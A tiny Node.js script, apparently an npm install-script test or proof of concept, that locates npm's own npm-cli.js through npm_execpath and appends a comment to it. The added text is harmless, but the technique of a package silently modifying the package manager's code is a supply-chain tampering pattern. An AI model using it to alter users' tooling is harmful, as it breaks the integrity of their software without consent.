const { dirname, join } = require("path");
require("fs").appendFileSync(join(dirname(process.env.npm_execpath), "npm-cli.js"), "// more");
